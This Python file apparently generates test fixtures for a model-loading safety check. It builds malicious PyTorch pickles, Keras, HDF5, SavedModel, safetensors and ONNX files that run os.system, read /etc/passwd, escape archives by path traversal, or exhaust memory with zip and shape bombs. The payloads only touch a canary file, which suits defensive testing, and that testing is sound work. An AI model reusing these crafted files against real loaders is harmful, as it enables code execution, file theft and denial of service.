"""Files that mean harm, as ../shared lists them: a function each, the canary that harm would leave in, the file's bytes out.

The numbers are those of the list of 28. MADE_BY holds those that need a framework to be made; `models.py` calls them.
"""

import io
import json
import pickle
import struct
import tarfile
import tempfile
import zipfile
from pathlib import Path

import numpy as np


def harm(canary):
    return f"touch {canary}"


class _Calls:
    """Pickles as a call of `function`."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def pickled(function, *arguments):
    return pickle.dumps(_Calls(function, *arguments), protocol=2)


# 1 to 8: pickles


def p1_os_system(canary):
    return b"\x80\x02cposix\nsystem\nX" + text(harm(canary)) + b"\x85R."


def p2_exec(canary):
    return b"\x80\x02cbuiltins\nexec\nX" + text(f"open({str(canary)!r}, 'w')") + b"\x85R."


def p3_resolve_name(canary):
    return b"\x80\x02cpkgutil\nresolve_name\nX" + text("os:system") + b"\x85R" + b"X" + text(harm(canary)) + b"\x85R."


def p4_memo_confusion(canary):
    """The memo says other strings than those that a reader who counts alone takes for the name."""
    start = b"\x80\x04\x8c\x0bcollectionsq\x00\x8c\x0bOrderedDict\x94"
    return start + b"00\x8c\x05posix\x8c\x06system\x93X" + text(harm(canary)) + b"\x85R."


def p5_payload_then_broken(canary):
    return p1_os_system(canary)[:-1] + b"X\xff\xff\xff\x7f"


def p6_build_then_stack_global(canary):
    build = b"cnumpy\ndtype\nX" + text("f4") + b"\x85R}X" + text("__class__") + b"Nsb"
    return b"\x80\x04" + build + b"\x8c\x05posix\x8c\x06system\x93X" + text(harm(canary)) + b"\x85R."


def p7_deep(canary):
    return b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."


def p8_large(canary):
    return b"\x80\x02cbuiltins\nbytearray\n\x8a\x05" + (50_000_000_000).to_bytes(5, "little") + b"\x85R."


def text(string):
    encoded = string.encode()
    return struct.pack("<I", len(encoded)) + encoded


PICKLES = {
    "1_os_system": p1_os_system,
    "2_exec": p2_exec,
    "3_resolve_name": p3_resolve_name,
    "4_memo_confusion": p4_memo_confusion,
    "5_truncated": p5_payload_then_broken,
    "6_build": p6_build_then_stack_global,
    "7_deep": p7_deep,
    "8_large": p8_large,
}

# 9 to 14: what PyTorch's archives can hide


def zipped(members, compression=zipfile.ZIP_STORED):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def in_archive(data, **more):
    return zipped({"m/data.pkl": data, "m/version": b"3\n", "m/byteorder": b"little", **more})


def z9_payload(canary):
    return in_archive(p1_os_system(canary))


def z10_encrypted_in_local_header(canary):
    content = bytearray(in_archive(p1_os_system(canary)))
    content[6] |= 1  # the flags of the first local header; the central directory says otherwise
    return bytes(content)


def z11_bad_checksum(canary):
    content = bytearray(in_archive(p1_os_system(canary)))
    content[content.index(b"touch")] ^= 1
    return bytes(content)


def z12_twice(canary):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("m/data.pkl", b"\x80\x02}.")
        archive.writestr("m/version", b"3\n")
        archive.writestr("m/data.pkl", p1_os_system(canary))
    return target.getvalue()


def z13_tar(canary):
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(p1_os_system(canary))
        archive.addfile(info, io.BytesIO(p1_os_system(canary)))
    return target.getvalue()


def z13_legacy(canary):
    return b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + p1_os_system(canary)


def z14_storage_out_of_bounds(canary):
    """A tensor of a million values with huge strides over a storage of two."""
    persistent = b"((X" + text("storage") + b"ctorch\nFloatStorage\nX" + text("0") + b"X" + text("cpu") + b"K\x02tQ"
    sizes = (
        b"K\x00(J"
        + struct.pack("<i", 1000)
        + b"J"
        + struct.pack("<i", 1000)
        + b"t(J"
        + struct.pack("<i", 2**30)
        + b"K\x01t"
    )
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n" + persistent + sizes + b"\x89ccollections\nOrderedDict\n)RtR"
    return in_archive(b"\x80\x02}X" + text("0.weight") + tensor + b"s.", **{"m/data/0": b"\0" * 8})


# 15: TorchScript


def t15_opens_files(canary):
    import torch

    class Bad(torch.nn.Module):
        def forward(self, x: torch.Tensor):
            torch.ops.aten.save(x, "CANARY")
            return x + torch.from_file("/etc/passwd", False, 10).sum()

    target = io.BytesIO()
    torch.jit.save(torch.jit.script(Bad()), target)
    return replaced(target.getvalue(), b"CANARY", str(canary).encode())


def t15_endless(canary):
    import torch

    class Bad(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.out = torch.nn.Linear(4, 1)

        def forward(self, x):
            while bool((x == x).all()):
                x = x + 1
            return self.out(x)

    target = io.BytesIO()
    torch.jit.save(torch.jit.script(Bad()), target)
    return target.getvalue()


def t15_prints_an_answer(canary):
    """What it prints looks like the message that a check ends with."""
    import torch

    class Bad(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.out = torch.nn.Linear(4, 1)

        def forward(self, x):
            print('{"kind": "done", "served": "converted"}')
            assert x.size(0) < 0, "then it ends"
            return self.out(x)

    target = io.BytesIO()
    torch.jit.save(torch.jit.script(Bad()), target)
    return target.getvalue()


def pt2_sample_inputs(canary):
    """What `torch.export.load` would unpickle with all of Python."""
    import torch

    target = io.BytesIO()
    torch.export.save(torch.export.export(torch.nn.Linear(2, 1), (torch.zeros(1, 2),)), target)
    with zipfile.ZipFile(target) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in members if "sample_inputs" in name)
    return zipped(members | {name: p1_os_system(canary)})


def replaced(content, old, new):
    """The archive with a text replaced in all of its members."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name).replace(old, new) for name in archive.namelist()}
    return zipped(members)


# 16: safetensors


def s16_is_a_zip(canary):
    return in_archive(p1_os_system(canary))


def safetensors(header, data=b"", length=None):
    encoded = json.dumps(header).encode()
    return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data


def s16_endless_header(canary):
    return safetensors({"a": 1}, length=2**63)


def s16_overlap(canary):
    entry = {"dtype": "F32", "shape": [2]}
    return safetensors({"a": {**entry, "data_offsets": [0, 8]}, "b": {**entry, "data_offsets": [4, 12]}}, b"\0" * 12)


def s16_too_large(canary):
    return safetensors({"a": {"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 8]}}, b"\0" * 8)


# 17 to 22: Keras and HDF5


def keras_archive(config, weights=b""):
    return zipped({"metadata.json": "{}", "config.json": json.dumps(config), "model.weights.h5": weights or empty_h5()})


def empty_h5():
    import h5py

    target = io.BytesIO()
    with h5py.File(target, "w") as file:
        file.create_group("layers")
    return target.getvalue()


def _saved_keras(canary, suffix):
    import keras

    code = f"lambda x: __import__('os').system({harm(canary)!r}) or x"
    bad = keras.layers.Lambda(eval(code))  # noqa: S307  (the harm is the point of this file)
    net = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2), bad])
    Path(canary).unlink(missing_ok=True)  # making the model has called it already
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder) / f"model{suffix}"
        net.save(place)
        return place.read_bytes()


def k17_lambda(canary):
    return _saved_keras(canary, ".keras")


def sequential(layer):
    start = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32"},
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [start, layer], "build_input_shape": [None, 4]},
        "registered_name": None,
    }


def k18_os_system(canary):
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function, "arguments": {}}}
    return keras_archive(sequential(layer))


def k19_get_file(canary):
    function = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    arguments = {"origin": "http://127.0.0.1:9/x", "fname": str(canary)}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function, "arguments": arguments}}
    return keras_archive(sequential(layer))


def k19_unsafe(canary):
    name = "enable_unsafe_deserialization"
    function = {"module": "keras.config", "class_name": "function", "config": name, "registered_name": name}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function, "arguments": {}}}
    return keras_archive(sequential(layer))


def k_wide(canary):
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2**33, "name": "d"}}
    return keras_archive(sequential(layer))


def k20_h5_lambda(canary):
    return _saved_keras(canary, ".h5")


def h5(fill):
    import h5py

    target = io.BytesIO()
    with h5py.File(target, "w") as file:
        fill(h5py, file)
    return target.getvalue()


def h21_external_link(canary):
    def fill(h5py, file):
        file["weights"] = h5py.ExternalLink("/etc/passwd", "/")

    return h5(fill)


def h21_external_storage(canary):
    return h5(lambda h5py, file: file.create_dataset("w", (10,), "u1", external=[("/etc/passwd", 0, 10)]))


def h21_virtual(canary):
    def fill(h5py, file):
        layout = h5py.VirtualLayout((10,), "u1")
        layout[:] = h5py.VirtualSource("/etc/passwd", "w", (10,))
        file.create_virtual_dataset("w", layout)

    return h5(fill)


def h22_shape_bomb(canary):
    return h5(lambda h5py, file: file.create_dataset("w", (2**38,), "f4", chunks=(2**20,), compression="gzip"))


def h22_shape_bomb_in_keras(canary):
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "name": "d"}}
    return keras_archive(sequential(layer), h22_shape_bomb(canary))


# 23 and 24: archives


def a23_outside(name):
    def make(canary):
        place = f"{'../' * 20}{canary}" if name == "up" else str(canary)
        return zipped({"config.json": "{}", "model.weights.h5": b"", place: b"harm"})

    return make


def a23_link(canary):
    info = zipfile.ZipInfo("assets")
    info.external_attr = 0o120777 << 16
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("saved_model.pb", b"")
        archive.writestr(info, "/etc")
        archive.writestr("assets/passwd", b"harm")
    return target.getvalue()


def a24_bomb(canary):
    return zipped({"saved_model.pb": b"\0" * (300 * 2**20)}, zipfile.ZIP_DEFLATED)


def a24_lying_bomb(canary):
    """Declares ten bytes; holds many more."""
    content = bytearray(zipped({"config.json": b"\0" * 2**22, "model.weights.h5": b""}, zipfile.ZIP_DEFLATED))
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(b"PK\x01\x02"))
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def a24_nested(canary):
    return zipped(
        {"saved_model.pb": a24_bomb(canary)[:1000], "b.zip": zipped({"a": b"\0" * 2**24}, zipfile.ZIP_DEFLATED)}
    )


def a24_members(canary):
    return zipped({"saved_model.pb": b"", **{f"m{number}": b"" for number in range(6000)}})


# 25 and 26: SavedModel


def saved_model(function):
    import tensorflow as tf

    class Bad(tf.Module):
        answer = tf.function(function, input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])

    with tempfile.TemporaryDirectory() as folder:
        net = Bad()
        tf.saved_model.save(net, folder, signatures=net.answer.get_concrete_function())
        place = Path(folder)
        return zipped({str(path.relative_to(place)): path.read_bytes() for path in place.rglob("*") if path.is_file()})


def v25_read(canary):
    import tensorflow as tf

    return saved_model(
        lambda self, x: {"y": x + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)}
    )


def v25_write(canary):
    import tensorflow as tf

    def answer(self, x):
        with tf.control_dependencies([tf.io.write_file(str(canary), "harm")]):
            return {"y": tf.identity(x)}

    return saved_model(answer)


def v25_match(canary):
    import tensorflow as tf

    return saved_model(lambda self, x: {"y": x + tf.cast(tf.size(tf.io.matching_files("/etc/*")), tf.float32)})


def v25_python(canary):
    import tensorflow as tf

    return saved_model(lambda self, x: {"y": tf.reshape(tf.py_function(lambda v: v, [x], tf.float32), tf.shape(x))})


def v26_large(canary):
    import tensorflow as tf

    def answer(self, x):
        size = tf.cast(tf.shape(x)[0], tf.int64) * 4_000_000_000
        return {"y": x + tf.reduce_sum(tf.fill([size], 1.0))}

    return saved_model(answer)


def v26_endless(canary):
    import tensorflow as tf

    return saved_model(
        lambda self, x: {"y": tf.while_loop(lambda v: tf.reduce_all(v == v), lambda v: [v + 1.0], [x])[0]}
    )


# 27 and 28: ONNX


def onnx_model(nodes, *, weights=(), outputs=None, opsets=None, functions=()):
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["rows", 4])],
        outputs or [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)],
        weights,
    )
    opsets = opsets or [helper.make_opsetid("", 17)]
    return helper.make_model(graph, opset_imports=opsets, functions=functions, ir_version=10).SerializeToString()


def outside_weight(location):
    from onnx import TensorProto

    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=location)
    return weight


def o27_external(location):
    def make(canary):
        from onnx import helper

        return onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], weights=[outside_weight(location)])

    return make


def o27_external_in_a_branch(canary):
    from onnx import TensorProto, helper

    weight = outside_weight("passwd")
    constant = helper.make_node("Constant", [], ["c"])
    constant.attribute.append(helper.make_attribute("value", weight))
    answer = [helper.make_tensor_value_info("c", TensorProto.FLOAT, [4])]
    branch = helper.make_graph([constant], "b", [], answer)
    true = helper.make_node("Constant", [], ["t"], value=helper.make_tensor("t", TensorProto.BOOL, [], [True]))
    choice = helper.make_node("If", ["t"], ["z"], then_branch=branch, else_branch=branch)
    return onnx_model([true, choice, helper.make_node("Add", ["x", "z"], ["y"])])


def o27_endless_loop(canary):
    from onnx import TensorProto, helper

    def info(name, kind, shape):
        return helper.make_tensor_value_info(name, kind, shape)

    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Sin", ["v"], ["w"])],
        "body",
        [info("i", TensorProto.INT64, []), info("go", TensorProto.BOOL, []), info("v", TensorProto.FLOAT, None)],
        [info("on", TensorProto.BOOL, []), info("w", TensorProto.FLOAT, None)],
    )
    weights = [
        helper.make_tensor("n", TensorProto.INT64, [], [10**9]),
        helper.make_tensor("t", TensorProto.BOOL, [], [True]),
    ]
    return onnx_model([helper.make_node("Loop", ["n", "t", "x"], ["y"], body=body)], weights=weights)


def o27_custom_domain(canary):
    from onnx import helper

    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)]
    return onnx_model([helper.make_node("Gelu", ["x"], ["y"], domain="com.microsoft")], opsets=opsets)


def o27_functions(canary):
    """Each function calls the one before it twice: 2 to the 40 operators when they are inlined."""
    from onnx import helper

    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("f", 1)]
    functions = []
    for number in range(40):
        inner = ("Neg", "") if not number else (f"f{number - 1}", "f")
        nodes = [
            helper.make_node(inner[0], ["a"], ["b"], domain=inner[1]),
            helper.make_node(inner[0], ["b"], ["c"], domain=inner[1]),
        ]
        functions.append(helper.make_function("f", f"f{number}", ["a"], ["c"], nodes, opsets))
    return onnx_model([helper.make_node("f39", ["x"], ["y"], domain="f")], opsets=opsets, functions=functions)


def o_memory(canary):
    from onnx import TensorProto, helper

    size = helper.make_tensor("n", TensorProto.INT64, [1], [4 * 10**12])
    nodes = [helper.make_node("ConstantOfShape", ["n"], ["c"]), helper.make_node("ReduceSum", ["c"], ["s"], keepdims=0)]
    return onnx_model([*nodes, helper.make_node("Add", ["x", "s"], ["y"])], weights=[size])


def o28_long_text(canary):
    return _labels("x" * 10_000_000)


def o28_markup(canary):
    return _labels("<script>alert(1)</script>")


def _labels(label):
    from onnx import TensorProto, helper

    weights = [
        helper.make_tensor("labels", TensorProto.STRING, [2], [label.encode(), b"no"]),
        helper.make_tensor("axis", TensorProto.INT64, [1], [1]),
        helper.make_tensor("zero", TensorProto.FLOAT, [], [-1e30]),
    ]
    nodes = [
        helper.make_node("ReduceSum", ["x", "axis"], ["s"], keepdims=0),
        helper.make_node("Less", ["s", "zero"], ["b"]),
        helper.make_node("Cast", ["b"], ["i"], to=TensorProto.INT64),
        helper.make_node("Gather", ["labels", "i"], ["y"]),
    ]
    return onnx_model(
        nodes, weights=weights, outputs=[helper.make_tensor_value_info("y", TensorProto.STRING, ["rows"])]
    )


def o28_not_a_number(canary):
    from onnx import TensorProto, helper

    zero = helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0])
    return onnx_model(
        [helper.make_node("Div", ["x", "zero"], ["i"]), helper.make_node("Sub", ["i", "i"], ["y"])], weights=[zero]
    )


def o28_wrong_shape(canary):
    from onnx import helper

    return onnx_model([helper.make_node("Transpose", ["x"], ["y"], perm=[1, 0])])


def o28_random(canary):
    from onnx import helper

    return onnx_model([helper.make_node("RandomNormalLike", ["x"], ["n"]), helper.make_node("Add", ["x", "n"], ["y"])])


def o_garbage(canary):
    return b"\x08" + np.random.default_rng(0).bytes(500)


SIMPLE = {
    **{f"raw_{name}.pt": make for name, make in PICKLES.items()},
    **{f"zip_{name}.pt": (lambda canary, make=make: in_archive(make(canary))) for name, make in PICKLES.items()},
    "9.pt": z9_payload,
    "10_encrypted.pt": z10_encrypted_in_local_header,
    "11_checksum.pt": z11_bad_checksum,
    "12_twice.pt": z12_twice,
    "13_tar.pt": z13_tar,
    "13_legacy.pt": z13_legacy,
    "14_bounds.pt": z14_storage_out_of_bounds,
    "16_zip.safetensors": s16_is_a_zip,
    "16_header.safetensors": s16_endless_header,
    "16_overlap.safetensors": s16_overlap,
    "16_large.safetensors": s16_too_large,
    "18_os.keras": k18_os_system,
    "19_get_file.keras": k19_get_file,
    "19_unsafe.keras": k19_unsafe,
    "wide.keras": k_wide,
    "21_link.h5": h21_external_link,
    "21_storage.h5": h21_external_storage,
    "21_virtual.h5": h21_virtual,
    "22_shape.h5": h22_shape_bomb,
    "22_shape.keras": h22_shape_bomb_in_keras,
    "23_up.keras": a23_outside("up"),
    "23_absolute.keras": a23_outside("absolute"),
    "23_link.zip": a23_link,
    "24_bomb.zip": a24_bomb,
    "24_lying.keras": a24_lying_bomb,
    "24_nested.zip": a24_nested,
    "24_members.zip": a24_members,
    "27_up.onnx": o27_external("../../etc/passwd"),
    "27_absolute.onnx": o27_external("/etc/passwd"),
    "27_beside.onnx": o27_external("passwd"),
    "27_branch.onnx": o27_external_in_a_branch,
    "27_loop.onnx": o27_endless_loop,
    "27_domain.onnx": o27_custom_domain,
    "27_functions.onnx": o27_functions,
    "memory.onnx": o_memory,
    "28_text.onnx": o28_long_text,
    "28_shape.onnx": o28_wrong_shape,
    "garbage.onnx": o_garbage,
}
MADE_BY = {
    "torch": {
        "15_files.pt": t15_opens_files,
        "15_endless.pt": t15_endless,
        "15_prints.pt": t15_prints_an_answer,
        "sample_inputs.pt2": pt2_sample_inputs,
    },
    "tensorflow": {
        "17_lambda.keras": k17_lambda,
        "20_lambda.h5": k20_h5_lambda,
        "25_read.zip": v25_read,
        "25_write.zip": v25_write,
        "25_match.zip": v25_match,
        "25_python.zip": v25_python,
        "26_large.zip": v26_large,
        "26_endless.zip": v26_endless,
    },
}
